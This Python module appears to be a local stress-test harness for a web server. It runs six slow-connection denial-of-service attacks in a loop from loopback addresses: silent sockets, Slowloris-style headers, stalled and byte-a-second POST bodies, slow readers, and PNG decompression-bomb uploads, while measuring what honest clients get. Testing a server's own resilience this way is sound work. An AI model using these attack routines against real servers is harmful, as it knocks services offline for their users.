"""Those who attack a web server with a few slow connections, and those who only want to read: in one process.

Each attack keeps a number of connections going until it is cancelled; what the server ends is opened again.
Attackers come from addresses of 127.66.0.0/16, honest people from others: all of 127.0.0.0/8 is this machine.
"""

from __future__ import annotations

import asyncio
import socket
import ssl
import struct
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from functools import cache

HOST = "city.example"
AGAIN = 0.2  # seconds until a connection that was refused is tried again
OVER_AND_OVER = 190  # requests of one slow reader
ADDRESSES = 20  # that an attacker has


@dataclass(frozen=True, slots=True)
class Target:
    """What is attacked. `tls`: None where it speaks http, as Mahalleh does to the web server in front of it.
    `large`: the address of a large file."""

    port: int
    tls: ssl.SSLContext | None
    large: str
    host: str = HOST


class Connection:
    """One connection, from an address of its own and with a small window where it is to read slowly."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(
        cls, target: Target, *, source: str, window: int = 0, tls: bool = True, wait: float = 10.0
    ) -> Connection:
        """Connect, and speak TLS where the target does."""
        plain = socket.socket()
        plain.setblocking(False)
        if window:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        plain.bind((source, 0))
        try:
            async with asyncio.timeout(wait):
                await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", target.port))
                secure = target.tls if tls else None
                reader, writer = await asyncio.open_connection(
                    sock=plain,
                    ssl=secure,
                    server_hostname=target.host if secure else None,
                    limit=2048 if window else 2**16,
                )
        except BaseException:
            plain.close()
            raise
        return cls(reader, writer)

    async def send(self, data: bytes) -> None:
        """Write it."""
        self.writer.write(data)
        await self.writer.drain()

    async def rest(self) -> bytes:
        """All that comes until the other side ends it, by force or not."""
        got = bytearray()
        with suppress(OSError):
            while piece := await self.reader.read(65_536):
                got += piece
        return bytes(got)

    async def end(self) -> None:
        """Without ceremony."""
        self.writer.transport.abort()
        with suppress(OSError):
            await self.writer.wait_closed()


Attack = Callable[[Target, str], Awaitable[None]]


async def silent(target: Target, source: str) -> None:
    """A connection on which nothing is said, not even the beginning of TLS."""
    await _held(target, source, b"", tls=False)


async def slow_headers(target: Target, source: str) -> None:
    """A head that goes on and on, a line every second."""
    connection = await Connection.open(target, source=source)
    try:
        await connection.send(_line(target, "GET", "/en/"))
        for number in range(600):
            await asyncio.sleep(1.0)
            await connection.send(f"X-{number}: a\r\n".encode())
    finally:
        await connection.end()


async def unfinished_posts(target: Target, source: str) -> None:
    """A form that announces more than it sends."""
    await _held(target, source, _form(target, 100_000) + b"words=")


async def slow_bodies(target: Target, source: str) -> None:
    """A form that comes a byte a second."""
    connection = await Connection.open(target, source=source)
    try:
        await connection.send(_form(target, 100_000))
        for _ in range(600):
            await asyncio.sleep(1.0)
            await connection.send(b"a")
    finally:
        await connection.end()


async def slow_readers(target: Target, source: str) -> None:
    """A download that is asked for and hardly taken: a few bytes a second.

    It is asked for many times over, so that no buffer on the way holds all of it.
    """
    connection = await Connection.open(target, source=source, window=2048)
    try:
        await connection.send((_line(target, "GET", target.large) + b"\r\n") * OVER_AND_OVER)
        while await connection.reader.read(64):
            await asyncio.sleep(1.0)
    finally:
        await connection.end()


async def large_photos(target: Target, source: str) -> None:
    """A form with three photos that are small to send and large to look at."""
    picture = _picture(5000)
    edge = "----attack"
    parts = [
        _part(edge, "step", b"what"),
        _part(edge, "words", b"a"),
        _part(edge, "topic", b"street-lighting"),
    ]
    parts += [_part(edge, "photos", picture, f"{n}.png") for n in range(3)] + [f"--{edge}--\r\n".encode()]
    body = b"".join(parts)
    kind = f"Content-Type: multipart/form-data; boundary={edge}\r\nContent-Length: {len(body)}\r\n\r\n"
    await _held(target, source, _line(target, "POST", "/en/tell/send/") + kind.encode() + body)


ATTACKS: dict[str, Attack] = {
    "unfinished posts": unfinished_posts,
    "slow readers": slow_readers,
    "silent connections": silent,
    "large PNG posts": large_photos,
    "slow headers": slow_headers,
    "bodies of a byte a second": slow_bodies,
}


async def attack(name: str, target: Target, connections: int) -> None:
    """So many at once, until cancelled."""

    async def one(number: int) -> None:
        source = f"127.66.0.{number % ADDRESSES + 1}"
        while True:
            with suppress(OSError):  # refused, or ended: again
                await ATTACKS[name](target, source)
            await asyncio.sleep(AGAIN)

    async with asyncio.TaskGroup() as group:
        for number in range(connections):
            group.create_task(one(number))
            await asyncio.sleep(0.002)  # as fast as one process opens them without choking itself


async def ask(
    target: Target, path: str, *, source: str, form: bytes = b"", patience: float = 30.0
) -> tuple[int, bytes]:
    """What an honest person gets: status and body, on a new connection."""
    async with asyncio.timeout(patience):
        connection = await Connection.open(target, source=source, wait=patience)
        try:
            if form:
                head = _line(target, "POST", path) + b"Content-Type: application/x-www-form-urlencoded\r\n"
                head += f"Content-Length: {len(form)}\r\n".encode()
            else:
                head = _line(target, "GET", path)
            await connection.send(head + b"Connection: close\r\n\r\n" + form)
            answer = await connection.rest()
        finally:
            await connection.end()
    head, _, body = answer.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/"):
        raise ConnectionResetError("no answer")
    return int(head.split(b" ", 2)[1]), body


async def _held(target: Target, source: str, said: bytes, *, tls: bool = True) -> None:
    connection = await Connection.open(target, source=source, tls=tls)
    try:
        await connection.send(said)
        await connection.rest()
    finally:
        await connection.end()


def _line(target: Target, method: str, path: str) -> bytes:
    https = "" if target.tls else "X-Forwarded-Proto: https\r\n"
    return f"{method} {path} HTTP/1.1\r\nHost: {target.host}\r\n{https}".encode()


def _form(target: Target, length: int) -> bytes:
    kind = f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n"
    return _line(target, "POST", "/en/tell/send/") + kind.encode()


def _part(edge: str, name: str, value: bytes, file: str = "") -> bytes:
    named = f'; filename="{file}"\r\nContent-Type: image/png' if file else ""
    return (
        f'--{edge}\r\nContent-Disposition: form-data; name="{name}"{named}\r\n\r\n'.encode() + value + b"\r\n"
    )


@cache
def _picture(side: int) -> bytes:
    """A black PNG of `side` by `side` pixels of three bytes each."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(side * (1 + 3 * side)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
